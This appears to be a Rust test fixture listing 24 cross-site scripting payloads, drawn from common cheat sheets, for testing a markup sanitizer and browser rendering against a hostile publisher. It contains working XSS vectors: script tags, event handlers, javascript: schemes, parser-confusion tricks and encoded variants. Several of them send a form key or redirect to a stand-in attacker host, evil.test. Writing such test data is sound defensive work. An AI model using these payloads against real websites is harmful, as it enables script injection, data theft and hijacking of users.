//! Payloads of a hostile publisher, for the tests of the markup and those in a real browser. `pwn`
//! must never be called, and `evil.test` must never get a request.

/// Payloads of the usual cheat sheets, by kind: elements, ways out of an attribute, schemes,
/// confused parsers, encodings.
pub const PAYLOADS: [&str; 24] = [
    "<script>pwn()</script>",
    "\"><script>pwn()</script>",
    "'><img src=x onerror=pwn()>",
    "</title><script>pwn()</script>",
    "</textarea><svg/onload=pwn()>",
    "--><svg onload=pwn()>",
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "\u{1}javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "<iframe srcdoc='<script>pwn()</script>'>",
    "<a href=\"javascript&colon;pwn()\">x</a>",
    "<a href=\"&#106;avascript:pwn()\">x</a>",
    "<math><mtext></p><style><img src=x onerror=pwn()></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<svg><style><img src=x onerror=pwn()>",
    "<form action=//evil.test/pwn><input name=form_key>",
    "<base href=//evil.test/pwn>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test/pwn\">",
    "<p style=\"background:url(//evil.test/pwn)\" onclick=pwn()>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "{{ pwn() }} ${pwn()} <%= pwn() %>",
];
